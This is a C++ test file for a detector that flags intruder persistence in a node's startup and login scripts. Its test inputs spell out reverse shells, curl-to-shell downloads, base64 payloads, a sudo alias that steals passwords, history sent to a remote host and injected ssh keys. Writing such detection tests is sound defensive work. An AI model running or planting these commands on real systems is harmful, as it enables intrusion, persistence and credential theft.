// The shell scripts a node runs on its own (rc.local, profile files, users'
// .bashrc, cron's period folders, update-motd.d) as NodeScript resources, and
// the commands in them that look like an intruder keeping a foothold.

#include "core/NodeLogTestUtil.h"

#include "import/LogLayout.h"
#include "import/importers/NodeScriptImporter.h"
#include "import/importers/ShellDialect.h"
#include "import/importers/ShellScript.h"
#include "util/Hash.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

using namespace ab;
using namespace ab::test;

namespace {

/// A fixture of tests/data/node-script/: "<node's tree>/<path on the node>".
QByteArray fixture(const QString& path)
{
    return readFile(dataPath(QStringLiteral("node-script/") + path));
}

/// Imports a fixture as the file at its path on node worker-1 (the tree's name
/// taken off: "ubuntu/etc/profile" is "worker-1/etc/profile").
MemoryImport runFixture(const QString& path)
{
    NodeScriptImporter importer;
    SourceHints hints;
    hints.node = QStringLiteral("worker-1");
    return importBytes(importer, fixture(path),
                       QStringLiteral("worker-1.tar.gz/worker-1/") + path.section(QLatin1Char('/'), 1), {}, hints);
}

MemoryImport runBytes(const QByteArray& bytes, const QString& path = QStringLiteral("worker-1/etc/profile.d/x.sh"))
{
    NodeScriptImporter importer;
    return importBytes(importer, bytes, path, {});
}

/// "line rule,rule" of each suspicious command the resource keeps.
QStringList suspicious(const MemoryImport& m)
{
    QStringList out;
    for (const QJsonValue& v : bodyOf(m).value(QStringLiteral("suspicious")).toArray()) {
        const QJsonObject o = v.toObject();
        QStringList rules;
        for (const QJsonValue& r : o.value(QStringLiteral("rules")).toArray())
            rules << r.toString();
        out << QString::number(o.value(QStringLiteral("line")).toInt()) + QLatin1Char(' ') +
                   rules.join(QLatin1Char(','));
    }
    return out;
}

/// The fixtures of one of the trees under tests/data/node-script/, as paths under it.
QStringList treeFiles(const QString& tree)
{
    const QDir root(dataPath(QStringLiteral("node-script")));
    QStringList out;
    for (const QString& f : fixturePaths(QStringLiteral("node-script"))) {
        const QString rel = root.relativeFilePath(f);
        if (rel.startsWith(tree + QLatin1Char('/')))
            out << rel;
    }
    return out;
}

/// "rule@line" of the findings of `script` at `path`, without the "node.script." prefix.
QStringList rulesOf(const QByteArray& script, const QString& path)
{
    QStringList out;
    for (const QString& f : findingLines(runBytes(script, path)))
        out << f.mid(int(qstrlen("node.script.")));
    return out;
}

} // namespace

class TestNodeScriptImporter : public QObject
{
    Q_OBJECT
private slots:
    void packagedScriptsHaveNoFindings_data();
    void packagedScriptsHaveNoFindings();
    void whatTheResourceHolds();
    void intruders_data();
    void intruders();
    void findingsSayWhereAndWhen();
    void detections_data();
    void detections();
    void howScriptsAreRead();
    void hereDocuments();
    void secretsAreMasked();
    void emptyAndUnusable();
    void largeInputStaysBounded();
    void badBytes();
    void cancels();
    void nodeFromThePath();
    void sniff_data();
    void sniff();
    void packagedHookFilesAreQuiet_data();
    void packagedHookFilesAreQuiet();
    void hookIntruders_data();
    void hookIntruders();
    void hookFindingsSayWhat();
    void hookDetections_data();
    void hookDetections();
    void hookFilesBounded();
    void libraryFoldersAndNetworkHooks();
    void dialectText_data();
    void dialectText();
    void shellDialects_data();
    void shellDialects();
    void shellDialectFindingsSayWhat();
    void pamEnvironment();
    void shellDialectsBounded();
    void fuzz();
};

void TestNodeScriptImporter::packagedScriptsHaveNoFindings_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("runs");
    QTest::addColumn<QString>("runsAs");
    const QHash<QString, QPair<QString, QString>> expected{
        {QStringLiteral("ubuntu/etc/cron.daily/apt-compat"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
        {QStringLiteral("ubuntu/etc/cron.daily/logrotate"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
        {QStringLiteral("ubuntu/etc/cron.daily/dpkg"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
        {QStringLiteral("ubuntu/etc/cron.daily/man-db"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
        {QStringLiteral("ubuntu/etc/update-motd.d/00-header"),
         {QStringLiteral("ssh login (motd)"), QStringLiteral("root")}},
        {QStringLiteral("ubuntu/etc/update-motd.d/10-help-text"),
         {QStringLiteral("ssh login (motd)"), QStringLiteral("root")}},
        {QStringLiteral("ubuntu/etc/update-motd.d/50-motd-news"),
         {QStringLiteral("ssh login (motd)"), QStringLiteral("root")}},
        {QStringLiteral("ubuntu/etc/profile"), {QStringLiteral("login shell"), QStringLiteral("every user")}},
        {QStringLiteral("ubuntu/etc/profile.d/bash_completion.sh"),
         {QStringLiteral("login shell"), QStringLiteral("every user")}},
        {QStringLiteral("ubuntu/etc/bash.bashrc"), {QStringLiteral("interactive shell"), QStringLiteral("every user")}},
        {QStringLiteral("ubuntu/home/ubuntu/.bashrc"), {QStringLiteral("interactive shell"), QStringLiteral("ubuntu")}},
    };
    const QStringList files = treeFiles(QStringLiteral("ubuntu"));
    QCOMPARE(files.size(), expected.size());
    for (const QString& f : files) {
        QVERIFY2(expected.contains(f), qPrintable(f));
        QTest::newRow(qPrintable(f)) << f << expected[f].first << expected[f].second;
    }
}

void TestNodeScriptImporter::packagedScriptsHaveNoFindings()
{
    // Debian's and Ubuntu's own scripts: curl fetching news into a cache,
    // `eval $(apt-config …)`, a here-document printed with cat, aliases of ls and
    // "sudo " are no finding.
    QFETCH(QString, path);
    QFETCH(QString, runs);
    QFETCH(QString, runsAs);
    const MemoryImport m = runFixture(path);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
    QCOMPARE(issueCodes(m.issues), QStringList());
    QCOMPARE(m.out.resources.size(), size_t(1));
    const Resource& r = m.out.resources.front();
    QCOMPARE(r.kind, QStringLiteral("NodeScript"));
    QCOMPARE(r.namespace_, QStringLiteral("worker-1"));
    QCOMPARE(r.name, path.section(QLatin1Char('/'), 1));
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("path")).toString(), QLatin1Char('/') + path.section(QLatin1Char('/'), 1));
    QCOMPARE(body.value(QStringLiteral("runs")).toString(), runs);
    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), runsAs);
    QVERIFY(!body.contains(QStringLiteral("suspicious")));
    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), fixture(path).count('\n'));
    QVERIFY(body.value(QStringLiteral("commands")).toInt() > 0);
}

void TestNodeScriptImporter::whatTheResourceHolds()
{
    const MemoryImport rc = runFixture(QStringLiteral("intruded/etc/rc.local"));
    QVERIFY(rc.result.hasValue());
    const QJsonObject body = bodyOf(rc);
    QCOMPARE(body.keys(),
             (QStringList{QStringLiteral("commands"), QStringLiteral("file"), QStringLiteral("interpreter"),
                          QStringLiteral("lines"), QStringLiteral("node"), QStringLiteral("path"),
                          QStringLiteral("runs"), QStringLiteral("runsAs"), QStringLiteral("suspicious")}));
    QCOMPARE(body.value(QStringLiteral("node")).toString(), QStringLiteral("worker-1"));
    QCOMPARE(body.value(QStringLiteral("file")).toString(), QStringLiteral("rc.local"));
    QCOMPARE(body.value(QStringLiteral("path")).toString(), QStringLiteral("/etc/rc.local"));
    QCOMPARE(body.value(QStringLiteral("runs")).toString(), QStringLiteral("boot"));
    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), QStringLiteral("root"));
    QCOMPARE(body.value(QStringLiteral("interpreter")).toString(), QStringLiteral("/bin/sh"));
    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), 15);
    // echo, true, sleep, nohup, exit: the '(…) &' a command of its own.
    QCOMPARE(body.value(QStringLiteral("commands")).toInt(), 5);
    QCOMPARE(suspicious(rc), QStringList{QStringLiteral("13 node.script.reverse-shell")});
    QCOMPARE(rc.out.resources.front().line, 10);

    // A user's file: whose, and run as that user.
    const MemoryImport bashrc = runFixture(QStringLiteral("intruded/home/deploy/.bashrc"));
    QCOMPARE(bashrc.out.resources.front().name, QStringLiteral("home/deploy/.bashrc"));
    QCOMPARE(bodyOf(bashrc).value(QStringLiteral("owner")).toString(), QStringLiteral("deploy"));
    QCOMPARE(bodyOf(bashrc).value(QStringLiteral("runsAs")).toString(), QStringLiteral("deploy"));
    QVERIFY(!bodyOf(bashrc).contains(QStringLiteral("interpreter")));
    // Each of its users' .bashrc is a resource of its own.
    const MemoryImport other = runBytes("alias ls='ls -F'\n", QStringLiteral("worker-1/root/.bashrc"));
    QCOMPARE(other.out.resources.front().name, QStringLiteral("root/.bashrc"));
    QCOMPARE(bodyOf(other).value(QStringLiteral("owner")).toString(), QStringLiteral("root"));
}

void TestNodeScriptImporter::intruders_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QStringList>("findings"); // "rule@line"
    QTest::newRow("rc.local reverse shell")
        << "intruded/etc/rc.local" << QStringList{QStringLiteral("node.script.reverse-shell@13")};
    QTest::newRow("cron.hourly miner from /tmp")
        << "intruded/etc/cron.hourly/sysstat-sync"
        << QStringList{QStringLiteral("node.script.download-exec@8"), QStringLiteral("node.script.download-exec@9"),
                       QStringLiteral("node.script.runs-from-temp@9")};
    QTest::newRow("a .bashrc capturing sudo's password")
        << "intruded/home/deploy/.bashrc" << QStringList{QStringLiteral("node.script.credential-alias@15")};
    QTest::newRow("update-motd.d adding a key from an address")
        << "intruded/etc/update-motd.d/60-landscape-info" << QStringList{QStringLiteral("node.script.adds-ssh-key@11")};
    QTest::newRow("profile.d base64 payload")
        << "intruded/etc/profile.d/locale-fix.sh" << QStringList{QStringLiteral("node.script.encoded-payload@7")};
    QCOMPARE(treeFiles(QStringLiteral("intruded")).size(), 5);
}

void TestNodeScriptImporter::intruders()
{
    QFETCH(QString, path);
    QFETCH(QStringList, findings);
    const MemoryImport m = runFixture(path);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(findingLines(m), findings);
    // The resource keeps each suspicious command once, with all its rules.
    QStringList lines;
    for (const QString& f : findings)
        lines << f.section(QLatin1Char('@'), 1);
    lines.removeDuplicates();
    QCOMPARE(suspicious(m).size(), lines.size());
    for (const Finding& f : m.out.findings) {
        QCOMPARE(f.tool, QStringLiteral("auditbench"));
        QCOMPARE(f.resourceKind, QStringLiteral("NodeScript"));
        QCOMPARE(f.resourceNamespace, QStringLiteral("worker-1"));
        QCOMPARE(f.resourceName, path.section(QLatin1Char('/'), 1));
        QVERIFY(!f.controls.isEmpty());
        QVERIFY(f.title.endsWith(QLatin1String(" on node worker-1")));
    }
}

void TestNodeScriptImporter::findingsSayWhereAndWhen()
{
    const MemoryImport rc = runFixture(QStringLiteral("intruded/etc/rc.local"));
    const Finding* shell = findingFor(rc, QStringLiteral("node.script.reverse-shell"), QStringLiteral("etc/rc.local"));
    QVERIFY(shell);
    QCOMPARE(shell->severity, Severity::Critical);
    QCOMPARE(shell->title, QStringLiteral("the script /etc/rc.local opens a reverse shell on node worker-1"));
    QVERIFY2(shell->detail.contains(QLatin1String("Line 13 of /etc/rc.local, run at boot as root: (sleep 30; nohup "
                                                  "/bin/bash -c 'while true; do bash -i >& /dev/tcp/203.0.113.45/")),
             qPrintable(shell->detail));
    QCOMPARE(shell->resource, QStringLiteral("NodeScript worker-1/etc/rc.local"));

    const MemoryImport cron = runFixture(QStringLiteral("intruded/etc/cron.hourly/sysstat-sync"));
    const Finding* dl =
        findingFor(cron, QStringLiteral("node.script.download-exec"), QStringLiteral("etc/cron.hourly/sysstat-sync"));
    QCOMPARE(dl->severity, Severity::High);
    QVERIFY(dl->detail.contains(QLatin1String("run by cron every hour as root: ")));
    QCOMPARE(
        findingFor(cron, QStringLiteral("node.script.runs-from-temp"), QStringLiteral("etc/cron.hourly/sysstat-sync"))
            ->severity,
        Severity::Medium);

    const MemoryImport bashrc = runFixture(QStringLiteral("intruded/home/deploy/.bashrc"));
    const Finding* alias =
        findingFor(bashrc, QStringLiteral("node.script.credential-alias"), QStringLiteral("home/deploy/.bashrc"));
    QCOMPARE(alias->severity, Severity::High);
    QVERIFY(alias->detail.contains(QLatin1String("run in the interactive shells of deploy: alias sudo='read -r -s")));

    const MemoryImport motd = runFixture(QStringLiteral("intruded/etc/update-motd.d/60-landscape-info"));
    const Finding* key = findingFor(motd, QStringLiteral("node.script.adds-ssh-key"),
                                    QStringLiteral("etc/update-motd.d/60-landscape-info"));
    QCOMPARE(key->severity, Severity::High);
    QCOMPARE(key->title, QStringLiteral("the script /etc/update-motd.d/60-landscape-info writes an ssh key into "
                                        "/root/.ssh/authorized_keys on node worker-1"));
    QVERIFY(key->detail.contains(QLatin1String("run as root at every ssh login: curl -fsS http://203.0.113.9/")));

    const MemoryImport profile = runFixture(QStringLiteral("intruded/etc/profile.d/locale-fix.sh"));
    const Finding* payload = findingFor(profile, QStringLiteral("node.script.encoded-payload"),
                                        QStringLiteral("etc/profile.d/locale-fix.sh"));
    QCOMPARE(payload->severity, Severity::High);
    QVERIFY(payload->detail.contains(QLatin1String("run in every user's login shell: echo 'Y3Vyb")));

    // Without a place: the file's name, and no word on when it runs.
    const MemoryImport loose = runBytes("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", QStringLiteral("notes.sh"));
    QCOMPARE(loose.out.resources.front().name, QStringLiteral("notes.sh"));
    QCOMPARE(loose.out.findings.front().title,
             QStringLiteral("the script notes.sh opens a reverse shell on this node"));
    QVERIFY(loose.out.findings.front().detail.endsWith(
        QLatin1String("Line 1 of notes.sh: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")));
    QVERIFY(!bodyOf(loose).contains(QStringLiteral("runs")));
}

void TestNodeScriptImporter::detections_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QByteArray>("script");
    QTest::addColumn<QStringList>("findings"); // "rule@line", node.script. left off
    const QString rc = QStringLiteral("worker-1/etc/rc.local");
    const QString daily = QStringLiteral("worker-1/etc/cron.daily/x");
    const QString profileD = QStringLiteral("worker-1/etc/profile.d/x.sh");
    const QString bashrc = QStringLiteral("worker-1/etc/bash.bashrc");
    const QString users = QStringLiteral("worker-1/home/alice/.bashrc");
    const QStringList none;

    // The shared judgement of a command, and across lines.
    QTest::newRow("curl piped to sh") << rc << QByteArray("curl -fsSL http://203.0.113.7/i.sh | sh\n")
                                      << QStringList{"download-exec@1"};
    QTest::newRow("sh -c wget piped to sh")
        << daily << QByteArray("#!/bin/sh\nsh -c \"wget -qO- http://198.51.100.7/x | sh\"\n")
        << QStringList{"download-exec@2"};
    QTest::newRow("sudo -u app bash -c, base64 into sh")
        << rc << QByteArray("sudo -u app bash -c 'echo ZWNobyBoaQ== | base64 -d | sh'\n")
        << QStringList{"encoded-payload@1"};
    QTest::newRow("wget, chmod and run on three lines")
        << daily
        << QByteArray("wget -q http://198.51.100.4/agent -O /usr/local/bin/agent\nchmod 755 /usr/local/bin/agent\n"
                      "/usr/local/bin/agent --daemon\n")
        << QStringList{"download-exec@2", "download-exec@3"};
    QTest::newRow("curl -O, then sh of it") << daily
                                            << QByteArray("cd /opt\ncurl -sO https://203.0.113.7/setup.sh?v=2\n"
                                                          "sh setup.sh\n")
                                            << QStringList{"download-exec@3"};
    QTest::newRow("downloaded, not run") << daily
                                         << QByteArray("curl -so /var/cache/x/news https://news.example/x\n"
                                                       "chmod 644 /var/cache/x/news\ncat /var/cache/x/news\n")
                                         << none;
    QTest::newRow("chmod +x of something else")
        << daily << QByteArray("curl -so /var/cache/x/news https://news.example/x\nchmod +x /usr/local/bin/tool\n")
        << none;
    QTest::newRow("reverse shell") << rc << QByteArray("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n")
                                   << QStringList{"reverse-shell@1"};
    QTest::newRow("nc -e on a continued line")
        << rc << QByteArray("nc 203.0.113.7 4444 \\\n    -e /bin/sh\n") << QStringList{"reverse-shell@1"};
    QTest::newRow("cd /tmp, then ./x on a later line")
        << daily << QByteArray("cd /tmp\n./.x\n") << QStringList{"runs-from-temp@2"};
    QTest::newRow("cd elsewhere in between") << daily << QByteArray("cd /tmp\ncd /opt/app\n./run\n") << none;
    QTest::newRow("base64 into bash") << profileD << QByteArray("echo ZWNobyBoaQ== | base64 -d | bash\n")
                                      << QStringList{"encoded-payload@1"};
    QTest::newRow("eval of base64") << profileD << QByteArray("eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"\n")
                                    << QStringList{"encoded-payload@1"};
    QTest::newRow("hidden folder") << rc << QByteArray("/home/ubuntu/.cache/.sys/update &\n")
                                   << QStringList{"runs-from-temp@1"};
    QTest::newRow("//tmp") << rc << QByteArray("//tmp/x\n") << QStringList{"runs-from-temp@1"};
    QTest::newRow("/var//tmp/.x") << rc << QByteArray("/var//tmp/.x/run\n") << QStringList{"runs-from-temp@1"};
    QTest::newRow("/usr/../tmp") << rc << QByteArray("/usr/../tmp/run\n") << QStringList{"runs-from-temp@1"};
    QTest::newRow("&& separated") << rc << QByteArray("test -d /tmp/.x && /tmp/.x/run\n")
                                  << QStringList{"runs-from-temp@1"};
    QTest::newRow("a function's body") << rc
                                       << QByteArray("update() {\n  curl -s http://203.0.113.7/u | bash\n}\nupdate\n")
                                       << QStringList{"download-exec@2"};
    QTest::newRow("a comment") << rc << QByteArray("echo hi # curl -s http://203.0.113.7/a | sh\n") << none;
    QTest::newRow("a '#' in quotes") << rc << QByteArray("echo \"# no comment\"; curl -s http://203.0.113.7/a | sh\n")
                                     << QStringList{"download-exec@1"};
    QTest::newRow("a quote across lines")
        << rc << QByteArray("echo 'first line\nsecond line'\n/tmp/x\n") << QStringList{"runs-from-temp@3"};

    // Aliases of the programs passwords are typed into.
    QTest::newRow("sudo reads the password")
        << users << QByteArray("alias sudo='read -s -p \"Password: \" p; echo \"$p\" >> ~/.x; sudo'\n")
        << QStringList{"credential-alias@1"};
    QTest::newRow("su to a copy in a home")
        << users << QByteArray("alias su='/home/alice/.local/bin/su'\n") << QStringList{"credential-alias@1"};
    QTest::newRow("passwd to echo") << bashrc << QByteArray("alias passwd='echo changed'\n")
                                    << QStringList{"credential-alias@1"};
    QTest::newRow("ssh and another alias")
        << users << QByteArray("alias ll='ls -l' ssh='/tmp/.s/ssh'\n") << QStringList{"credential-alias@1"};
    QTest::newRow("ssh with options") << users << QByteArray("alias ssh='ssh -o ServerAliveInterval=60'\n") << none;
    QTest::newRow("sudo, so aliases work after it") << users << QByteArray("alias sudo='sudo '\n") << none;
    QTest::newRow("command sudo -E") << users << QByteArray("alias sudo=\"command sudo -E\"\n") << none;
    QTest::newRow("ssh by its path") << users << QByteArray("alias ssh='/usr/bin/ssh -A'\n") << none;
    QTest::newRow("other aliases") << users << QByteArray("alias ls='ls --color=auto'\nalias k=kubectl\n") << none;

    // Preloaded libraries.
    QTest::newRow("export LD_PRELOAD") << profileD << QByteArray("export LD_PRELOAD=/usr/local/lib/libsys.so\n")
                                       << QStringList{"ld-preload@1"};
    QTest::newRow("ld.so.preload written")
        << rc << QByteArray("echo /usr/lib/x86_64-linux-gnu/libgcc_s.so.4 > /etc/ld.so.preload\n")
        << QStringList{"ld-preload@1"};
    QTest::newRow("ld.so.preload by tee")
        << rc << QByteArray("echo /lib/l.so | tee -a /etc/ld.so.preload\n") << QStringList{"ld-preload@1"};
    QTest::newRow("LD_PRELOAD for one program")
        << rc << QByteArray("LD_PRELOAD=/usr/lib/libjemalloc.so.2 /usr/bin/redis-server &\n")
        << QStringList{"ld-preload@1"};
    QTest::newRow("LD_PRELOAD emptied") << profileD << QByteArray("export LD_PRELOAD=\nunset LD_PRELOAD\n") << none;

    // What runs before every prompt or command.
    QTest::newRow("PROMPT_COMMAND sends the history")
        << bashrc << QByteArray("export PROMPT_COMMAND='history 1 | curl -s -d @- http://203.0.113.7/h >/dev/null'\n")
        << QStringList{"prompt-command@1"};
    QTest::newRow("PROMPT_COMMAND from /dev/shm") << users << QByteArray("PROMPT_COMMAND+=';/dev/shm/.p'\n")
                                                  << QStringList{"prompt-command@1", "runs-from-temp@1"};
    QTest::newRow("PROMPT_COMMAND sets the title")
        << bashrc
        << QByteArray("PROMPT_COMMAND='printf \"\\033]0;%s@%s:%s\\007\" \"${USER}\" \"${HOSTNAME%%.*}\" "
                      "\"${PWD/#$HOME/\\~}\"'\n")
        << none;
    QTest::newRow("PROMPT_COMMAND logs to syslog")
        << bashrc << QByteArray("PROMPT_COMMAND='history -a >(logger -t \"bash[$$]\" -p local6.info)'\n") << none;
    QTest::newRow("DEBUG trap to nc") << bashrc
                                      << QByteArray("trap 'echo \"$BASH_COMMAND\" | nc 203.0.113.7 9000' DEBUG\n")
                                      << QStringList{"debug-trap@1"};
    QTest::newRow("DEBUG trap, options first")
        << users << QByteArray("trap -- '/var/tmp/.k \"$BASH_COMMAND\"' RETURN DEBUG\n") << QStringList{"debug-trap@1"};
    QTest::newRow("DEBUG trap sets the title")
        << users << QByteArray("trap 'echo -ne \"\\033]0;${BASH_COMMAND}\\007\"' DEBUG\n") << none;
    QTest::newRow("EXIT trap with curl") << users << QByteArray("trap 'curl -s https://hc.example/bye' EXIT\n") << none;

    // An ssh key written by a script.
    QTest::newRow("key by tee") << rc
                                << QByteArray("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB4kx9 ops' | tee -a "
                                              "/root/.ssh/authorized_keys\n")
                                << QStringList{"adds-ssh-key@1"};
    QTest::newRow("key from wget") << users << QByteArray("wget -qO- http://203.0.113.9/k >> ~/.ssh/authorized_keys\n")
                                   << QStringList{"adds-ssh-key@1"};
    QTest::newRow("key file copied") << daily << QByteArray("cp /var/backups/.k /home/ubuntu/.ssh/authorized_keys2\n")
                                     << QStringList{"adds-ssh-key@1"};
    QTest::newRow("keys only read") << daily
                                    << QByteArray("chmod 600 /root/.ssh/authorized_keys\n"
                                                  "wc -l < /root/.ssh/authorized_keys > /var/log/keys.count\n")
                                    << none;

    // History turned off for every user; a user's own choice is theirs.
    QTest::newRow("HISTFILE to /dev/null")
        << profileD << QByteArray("export HISTFILE=/dev/null\n") << QStringList{"history-off@1"};
    QTest::newRow("unset HISTFILE") << bashrc << QByteArray("unset HISTFILE\n") << QStringList{"history-off@1"};
    QTest::newRow("HISTSIZE=0") << QStringLiteral("worker-1/etc/zsh/zshrc") << QByteArray("HISTSIZE=0\n")
                                << QStringList{"history-off@1"};
    QTest::newRow("set +o history") << QStringLiteral("worker-1/etc/profile") << QByteArray("set +o history\n")
                                    << QStringList{"history-off@1"};
    QTest::newRow("a user's own .bashrc")
        << users << QByteArray("unset HISTFILE\nexport HISTFILE=/dev/null\nHISTSIZE=0\n") << none;
    QTest::newRow("in rc.local") << rc << QByteArray("unset HISTFILE\n") << none;
    // A folder in /tmp named in a variable is no program run from it (Debian's
    // x11-common init script makes /tmp/.X11-unix so); the variable's value runs
    // when a shell runs code inside the quotes, or a program follows them.
    const QString initD = QStringLiteral("worker-1/etc/init.d/x11-common");
    QTest::newRow("a temporary folder in a variable")
        << initD << QByteArray("#!/bin/sh\nset_up_dir () {\n  DIR=\"/tmp/$1\"\n  mkdir -p $DIR\n}\n") << none;
    QTest::newRow("in single quotes, a prefix with blanks")
        << initD << QByteArray("#!/bin/sh\nSOCKET_DIR='/tmp/.X11-unix'\nMSG=\"see /tmp/x and /tmp/.y\"\n") << none;
    QTest::newRow("a program after the assignment")
        << initD << QByteArray("#!/bin/sh\nLANG=\"C\" /tmp/.cache/run\n") << QStringList{"runs-from-temp@2"};
    QTest::newRow("code run inside the quotes")
        << initD << QByteArray("#!/bin/sh\nX=\"$(curl -s http://203.0.113.7/a | sh)\"\n")
        << QStringList{"download-exec@2"};
    // sh refuses a quote never closed; its words are still judged, as before.
    QTest::newRow("a quote never closed")
        << initD << QByteArray("#!/bin/sh\nDIR=\"/tmp/.x\n/tmp/.x/run\n") << QStringList{"runs-from-temp@2"};
    QTest::newRow("a history kept") << profileD << QByteArray("HISTSIZE=5000\nHISTFILESIZE=10000\nset -o history\n")
                                    << none;
}

void TestNodeScriptImporter::detections()
{
    QFETCH(QString, path);
    QFETCH(QByteArray, script);
    QFETCH(QStringList, findings);
    QCOMPARE(rulesOf(script, path), findings);
}

void TestNodeScriptImporter::howScriptsAreRead()
{
    // Continued lines, quotes across lines, comments, ';' and '&&': one
    // command each, judged on the line it starts on.
    const QByteArray script = "#!/bin/bash\n"
                              "# a comment: curl -s http://203.0.113.7/x | sh\n"
                              "PS1='# '; export PS1\n"
                              "echo \"one\n"
                              "two\" && \\\n"
                              "  curl -s http://203.0.113.7/x \\\n"
                              "  | sh\n"
                              "\n"
                              "msg='it''s'  # a comment after a command\n";
    const MemoryImport m = runBytes(script, QStringLiteral("worker-1/etc/rc.local"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(findingLines(m), QStringList{QStringLiteral("node.script.download-exec@4")});
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("interpreter")).toString(), QStringLiteral("/bin/bash"));
    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), 9);
    QCOMPARE(body.value(QStringLiteral("commands")).toInt(), 6);
    const QJsonObject kept = body.value(QStringLiteral("suspicious")).toArray().at(0).toObject();
    QCOMPARE(kept.value(QStringLiteral("command")).toString(),
             QStringLiteral("echo \"one\ntwo\" &&   curl -s http://203.0.113.7/x   | sh"));

    // The commands of a line, their words as the shell takes them.
    const std::vector<shellscript::Command> c =
        shellscript::commandsOf("if [ -x /a ]; then alias sudo='x; y' && echo \"a\"'b' 2>/dev/null | tee -a f; fi");
    QCOMPARE(c.size(), size_t(4));
    QCOMPARE(c[0].words, (std::vector<std::string>{"[", "-x", "/a", "]"}));
    QCOMPARE(c[1].words, (std::vector<std::string>{"alias", "sudo=x; y"}));
    QCOMPARE(c[2].words, (std::vector<std::string>{"echo", "ab", "2>/dev/null"}));
    QCOMPARE(c[3].opener, '|');
    std::vector<std::string> written;
    QCOMPARE(shellscript::withoutRedirections({"cat", ">>", "/root/x", "2>&1", "<<EOF", "<(ls)"}, &written),
             (std::vector<std::string>{"cat", "<(ls)"}));
    QCOMPARE(written, std::vector<std::string>{"/root/x"});
}

void TestNodeScriptImporter::hereDocuments()
{
    const QString rc = QStringLiteral("worker-1/etc/rc.local");
    // Fed to a shell, a here-document's lines are judged as the shell runs them.
    const MemoryImport bash = runBytes("bash <<EOF\necho start\ncurl -s http://203.0.113.7/x | sh\nEOF\n", rc);
    QCOMPARE(findingLines(bash), QStringList{QStringLiteral("node.script.download-exec@3")});
    QVERIFY(bash.out.findings.front().detail.contains(
        QLatin1String("Line 3 of /etc/rc.local (in the here-document a shell runs from line 1), run at boot")));
    QCOMPARE(rulesOf("cat <<'END' | sh\n/tmp/.x/run\nEND\n", rc), QStringList{QStringLiteral("runs-from-temp@2")});
    QCOMPARE(rulesOf("\tsudo bash -s <<-END\n\t\tcurl -s http://x.example/y | sh\n\tEND\necho ok\n", rc),
             QStringList{QStringLiteral("download-exec@2")});

    // Written to a file, printed, or fed to another interpreter: text, not run.
    const QByteArray written = "cat > /etc/motd <<EOF\ncurl -s http://203.0.113.7/x | sh\n"
                               "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nEOF\n/tmp/after\n";
    const MemoryImport w = runBytes(written, rc);
    QCOMPARE(findingLines(w), QStringList{QStringLiteral("node.script.runs-from-temp@5")});
    QCOMPARE(bodyOf(w).value(QStringLiteral("hereDocumentLines")).toInt(), 2);
    QCOMPARE(rulesOf("python3 - <<'PY'\nimport os; os.system('/tmp/x')\nPY\n", rc), QStringList());
    // Two on one line, read in turn; the second run by a shell.
    QCOMPARE(rulesOf("cat <<A; bash <<B\n/tmp/a\nA\n/tmp/b\nB\n/tmp/c\n", rc),
             (QStringList{QStringLiteral("runs-from-temp@4"), QStringLiteral("runs-from-temp@6")}));
    // A here-string and a shift are none; a delimiter never seen reads to the end.
    QCOMPARE(rulesOf("x=$((1 << 2))\nbash <<< 'echo hi'\n/tmp/y\n", rc),
             QStringList{QStringLiteral("runs-from-temp@3")});
    const MemoryImport open = runBytes("cat <<EOF\n/tmp/never-run\n", rc);
    QVERIFY(open.result.hasValue());
    QVERIFY(open.out.findings.empty());
}

void TestNodeScriptImporter::secretsAreMasked()
{
    const QByteArray script = "export PGPASSWORD=Pg-Backup-S3cret\n"
                              "curl -u admin:Hunter2Pass http://203.0.113.7/a | sh\n"
                              "mysql -uroot --password=Sup3rSecret -e 'select 1'; /tmp/x\n";
    const MemoryImport m = runBytes(script, QStringLiteral("worker-1/etc/cron.daily/backup"));
    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.script.download-exec@2"),
                                           QStringLiteral("node.script.runs-from-temp@3")}));
    const QString body = m.out.resources.front().body;
    for (const char* secret : {"Hunter2Pass", "Sup3rSecret", "Pg-Backup-S3cret"}) {
        QVERIFY2(!body.contains(QLatin1String(secret)), qPrintable(body));
        for (const Finding& f : m.out.findings)
            QVERIFY2(!f.detail.contains(QLatin1String(secret)), qPrintable(f.detail));
    }
    QVERIFY(body.contains(QLatin1String("[redacted sha256:")));
}

void TestNodeScriptImporter::emptyAndUnusable()
{
    const MemoryImport comments = runBytes("#!/bin/sh\n# nothing to do\n\n: # nor here\n" + QByteArray("exit 0\n"),
                                           QStringLiteral("worker-1/etc/rc.local"));
    QVERIFY(comments.result.hasValue());
    QCOMPARE(bodyOf(comments).value(QStringLiteral("commands")).toInt(), 2);
    const MemoryImport empty = runBytes("#!/bin/sh\n# placeholder\n\n");
    QVERIFY(empty.result.hasValue());
    QVERIFY(hasIssue(empty.issues, QStringLiteral("node-script.empty")));
    QVERIFY(empty.out.resources.empty());
    const MemoryImport nothing = runBytes(QByteArray());
    QVERIFY(nothing.result.hasValue());
    QVERIFY(nothing.out.resources.empty());
    QVERIFY(nothing.out.findings.empty());
}

void TestNodeScriptImporter::largeInputStaysBounded()
{
